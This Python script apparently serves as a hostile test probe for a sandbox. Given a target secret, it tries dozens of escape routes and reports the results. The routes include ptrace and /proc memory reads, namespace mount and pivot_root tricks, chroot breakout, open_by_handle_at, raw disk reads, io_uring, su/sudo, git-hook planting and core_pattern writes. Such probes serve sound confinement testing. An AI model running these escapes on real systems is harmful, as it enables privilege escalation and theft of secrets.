"""A malicious server: reads one line that says what lies outside, tries every way there, and says what came out."""

import ctypes, json, os, platform, re, shutil, signal, socket, stat, struct, subprocess, sys, time

at = json.loads(sys.stdin.readline())
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
column = {"x86_64": 0, "aarch64": 1}[platform.machine()]
calls = {
    "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "ptrace": (101, 117),
    "unshare": (272, 97), "setns": (308, 268), "keyctl": (250, 219), "process_vm_readv": (310, 270),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "io_uring_setup": (425, 425),
    "io_uring_enter": (426, 426), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "open_tree": (428, 428), "move_mount": (429, 429), "fsopen": (430, 430), "bpf": (321, 280),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "clone3": (435, 435), "mknodat": (259, 33),
}
NEWNS, NEWUSER = 0x20000, 0x10000000
BIND, REC, PRIVATE, DETACH = 4096, 16384, 1 << 18, 2


def call(name, *args):
    args = [a if not isinstance(a, (int, str)) else ctypes.c_long(a) if isinstance(a, int) else a.encode() for a in args]
    result = libc.syscall(ctypes.c_long(calls[name][column]), *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def answered(name, *args):
    call(name, *args)
    return "answered"


def read(path):
    with open(path, errors="replace") as file:
        return file.read(4096)


def output(*words, text=None):
    return subprocess.run(words, input=text, capture_output=True, text=True, timeout=10).stdout


def of_others(part):
    """What can be had of the process that is there for it; where that is not to be seen, of all that are."""
    found = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    out = []
    for pid in [at["pid"]] if at["pid"] in found else found:
        try:
            out.append(part(pid))
        except (OSError, ValueError, IndexError):
            pass
    return " ".join(out)


def stack(pid):
    for line in read(f"/proc/{pid}/maps").splitlines():
        if line.endswith("[stack]"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            return start, end
    raise OSError("no stack")


def marks(memory):
    return " ".join(found.decode() for found in re.findall(rb"mark-[0-9a-f]{16}", memory))


def memory(pid):
    start, end = stack(pid)
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        file.seek(start)
        return marks(file.read(end - start))


def ptrace(pid):
    start, end = stack_or_guess(pid)
    call("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
    try:
        os.waitpid(pid, 0)
        word = ctypes.c_long()
        data = b""
        for address in range(end - 4096, end, 8):
            call("ptrace", 2, pid, address, ctypes.byref(word))  # PTRACE_PEEKDATA
            data += struct.pack("q", word.value)
        return marks(data)
    finally:
        call("ptrace", 17, pid, 0, 0)  # PTRACE_DETACH


def stack_or_guess(pid):
    try:
        return stack(pid)
    except OSError:
        return 0, 4096


def vm_read(pid):
    start, end = stack(pid)
    buffer = ctypes.create_string_buffer(end - start)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), end - start)
    remote = (ctypes.c_size_t * 2)(start, end - start)
    call("process_vm_readv", pid, local, 1, remote, 1, 0)
    return marks(buffer.raw)


def taken_handle(pid):
    fd = call("pidfd_getfd", call("pidfd_open", pid, 0), 3, 0)
    return os.pread(fd, 4096, 0).decode()


def inherited():
    out = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd > 2:
            try:
                found = os.open(os.path.basename(at["secret"]), os.O_RDONLY, dir_fd=fd)
                out.append(os.read(found, 4096).decode())
            except OSError:
                pass
    return " ".join(out)


def sent_on(flags):
    """A link below the root, made to lead out."""
    path = os.path.join(at["root"], f"py-{flags}")
    (os.symlink if flags == "new" else os.link)(at["secret"], path)
    try:
        return read(path)
    finally:
        os.unlink(path)


def renamed():
    path = os.path.join(at["root"], "py-moved")
    os.rename(at["movable"], path)
    try:
        return read(path)
    finally:
        os.rename(path, at["movable"])


def own_namespaces():
    uid, gid = os.getuid(), os.getgid()
    call("unshare", NEWUSER | NEWNS)
    with open("/proc/self/setgroups", "w") as file:
        file.write("deny")
    with open("/proc/self/uid_map", "w") as file:
        file.write(f"0 {uid} 1")
    with open("/proc/self/gid_map", "w") as file:
        file.write(f"0 {gid} 1")
    call("mount", "none", "/", 0, REC | PRIVATE, 0)


def unmounted():
    own_namespaces()
    points = [line.split()[4] for line in read_all("/proc/self/mountinfo").splitlines()]
    for point in sorted(points, key=len, reverse=True):
        if point != "/" and at["secret"].startswith(point.rstrip("/") + "/"):
            libc.umount2(point.encode(), DETACH)
    return read(at["secret"])


def read_all(path):
    with open(path) as file:
        return file.read()


def place():
    path = os.path.join(at["root"], "py-place")
    os.makedirs(path, exist_ok=True)
    return path


def bound():
    own_namespaces()
    call("mount", "/", place(), 0, BIND | REC, 0)
    return read(place() + at["secret"])


def pivoted():
    own_namespaces()
    call("mount", "/", place(), 0, BIND | REC, 0)
    os.chdir(place())
    call("pivot_root", ".", ".")
    call("umount2", ".", DETACH)
    return read(at["secret"])


def cloned_tree():
    own_namespaces()
    tree = call("open_tree", -100, "/", 1)
    return os.read(os.open(at["secret"][1:], os.O_RDONLY, dir_fd=tree), 4096).decode()


def left_root():
    os.chroot(place())
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(at["secret"])


def other_mounts(pid):
    fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    call("setns", fd, NEWNS)
    return read(at["secret"])


def by_handle():
    # The root of an ext4 file system is always the inode 2.
    here = os.open(at["root"], os.O_RDONLY)
    handle = struct.pack("IiII", 8, 1, 2, 0)
    top = call("open_by_handle_at", here, handle, os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open(at["secret"].lstrip("/"), os.O_RDONLY, dir_fd=top), 4096).decode()


def handle_named():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    call("name_to_handle_at", -100, at["root"], handle, ctypes.byref(ctypes.c_int()), 0)
    return "answered"


def raw_disk():
    own = os.path.join(at["root"], "py-disk")
    try:
        os.mknod(own, stat.S_IFBLK | 0o600, os.stat(at["root"]).st_dev)
    except OSError:
        own = "/dev/vda"
    for path in [own, *(os.path.join("/dev", name) for name in os.listdir("/dev"))]:
        try:
            if stat.S_ISBLK(os.stat(path).st_mode):
                with open(path, "rb", 0) as disk:
                    return "answered" if len(disk.read(4096)) == 4096 else ""
        except OSError:
            pass


def by_setuid():
    out = output("su", "-c", f"cat '{at['secret']}'")
    return out or output("sudo", "-n", "cat", at["secret"])


def by_uring():
    params = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 4, params)
    import mmap

    sq_entries, cq_entries, _, _, _, features, _ = struct.unpack_from("7I", params, 0)
    sq = struct.unpack_from("8I", params, 40)
    rings = mmap.mmap(ring, 4096, mmap.MAP_SHARED, offset=0)
    entries = mmap.mmap(ring, 4096, mmap.MAP_SHARED, offset=0x10000000)
    name = ctypes.create_string_buffer(at["secret"].encode())
    # IORING_OP_OPENAT, relative to nothing, for reading.
    entries[:64] = struct.pack("BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, 0, 7) + bytes(24)
    rings[sq[6]:sq[6] + 4] = struct.pack("I", 0)
    rings[sq[1]:sq[1] + 4] = struct.pack("I", struct.unpack_from("I", rings, sq[1])[0] + 1)
    call("io_uring_enter", ring, 1, 1, 1, 0, 0)
    cqes = struct.unpack_from("I", params, 80 + 20)[0]
    fd = struct.unpack_from("Qi", rings, cqes)[1]
    return os.read(fd, 4096).decode()


def by_grandchild():
    path = os.path.join(at["root"], "py-grandchild")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.05)
            try:
                text = read(at["secret"])
            except OSError:
                text = "nothing"
            with open(path + ".new", "w") as file:
                file.write(text)
            os.rename(path + ".new", path)
        os._exit(0)
    for _ in range(100):
        time.sleep(0.01)
        if os.path.exists(path):
            text = read(path)
            os.unlink(path)
            return text


def connected(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(10)
        one.connect(address)
        return one.recv(4096).decode()


def turned_pair(kind):
    """One of a pair of datagram sockets can be turned to anybody."""
    one, _ = socket.socketpair(socket.AF_UNIX, kind)
    try:
        one.connect(at["abstractSocket"].replace("@", "\0", 1))
    except OSError as error:
        # Found, and of another kind.
        return "answered" if error.errno == 91 else str(error)
    return "answered"


def written(path, text="written"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def hook_by_rename():
    git = os.path.join(at["root"], ".git")
    os.rename(git, git + "-away")
    shutil.copytree(git + "-away", git)
    written(at["writes"]["hookByRename"])


def hook_by_link():
    git = os.path.join(at["root"], ".git")
    os.rename(git, git + "-linked")
    shutil.copytree(git + "-linked", git + "-copy")
    os.symlink(git + "-copy", git)
    written(at["writes"]["hookByLink"])


def opened_for_writing(path):
    os.close(os.open(path, os.O_WRONLY))
    return "answered"


secret, pid = at["secret"], at["pid"]
ways = {
    # Reads.
    "direct": lambda: read(secret),
    "sibling": lambda: read(at["sibling"]),
    "dots": lambda: read(at["dots"]),
    "oldLink": lambda: read(at["oldLink"]),
    "nestedRoot": lambda: read(os.path.join(at["nestedRoot"], os.path.basename(secret))),
    "newLink": lambda: sent_on("new"),
    "hardLink": lambda: sent_on("hard"),
    "rename": renamed,
    "procRoot": lambda: of_others(lambda pid: read(f"/proc/{pid}/root{secret}")),
    "procCwd": lambda: of_others(lambda pid: read(f"/proc/{pid}/cwd/{os.path.basename(secret)}")),
    "procFd": lambda: of_others(lambda pid: read(f"/proc/{pid}/fd/3")),
    "procEnviron": lambda: of_others(lambda pid: read(f"/proc/{pid}/environ")),
    "procMem": lambda: of_others(memory),
    "ptrace": lambda: of_others(ptrace),
    "processVmReadv": lambda: of_others(vm_read),
    "pidfdGetfd": lambda: of_others(taken_handle),
    "inherited": inherited,
    "setns": lambda: of_others(other_mounts),
    "usernsUnmount": unmounted,
    "usernsBind": bound,
    "usernsPivot": pivoted,
    "usernsOpenTree": cloned_tree,
    "chroot": left_root,
    "openByHandle": by_handle,
    "rawDisk": raw_disk,
    "setuid": by_setuid,
    "ioUring": by_uring,
    "grandchild": by_grandchild,
    "otherProgram": lambda: output("/bin/cat", secret),
    # What the kernel has beside files.
    "keyctl": lambda: answered("keyctl", 0, -4, 1, 0, 0),
    "nameToHandle": handle_named,
    "fsopen": lambda: answered("fsopen", "tmpfs", 0),
    "bpf": lambda: answered("bpf", 0, struct.pack("IIIIII", 2, 4, 4, 1, 0, 0) + bytes(100), 48),
    "perf": lambda: answered("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0),
    "clone3": lambda: answered("clone3", struct.pack("11Q", NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88),
    # Sockets.
    "pathSocket": lambda: connected(socket.AF_UNIX, at["pathSocket"]),
    "abstractSocket": lambda: connected(socket.AF_UNIX, at["abstractSocket"].replace("@", "\0", 1)),
    "datagramPair": lambda: turned_pair(socket.SOCK_DGRAM),
    "rawPair": lambda: turned_pair(socket.SOCK_RAW),
    "loopback": lambda: connected(socket.AF_INET, ("127.0.0.1", at["port"])),
    # Names.
    "listing": lambda: " ".join(os.listdir(at["folder"])),
    "mountinfo": lambda: read_all("/proc/self/mountinfo"),
    "stat": lambda: f"size:{os.stat(secret).st_size}",
    "processes": lambda: of_others(lambda pid: read(f"/proc/{pid}/cmdline")),
    # Writes. They count when they are found outside.
    **{
        name: (lambda path: lambda: written(path))(path)
        for name, path in at["writes"].items()
        if name not in ("hookByRename", "hookByLink")
    },
    "hookByRename": hook_by_rename,
    "hookByLink": hook_by_link,
    "corePattern": lambda: opened_for_writing("/proc/sys/kernel/core_pattern"),
    "signal": lambda: os.kill(pid, signal.SIGKILL),
}


def attempt(way):
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        signal.alarm(3)
        try:
            out = way() or ""
        except BaseException as error:
            out = f"error: {error}"
        os.write(writer, out.encode()[:60000])
        os._exit(0)
    os.close(writer)
    out = b""
    while chunk := os.read(reader, 65536):
        out += chunk
    os.waitpid(child, 0)
    return out.decode(errors="replace")


json.dump({name: attempt(way) for name, way in ways.items()}, sys.stdout)
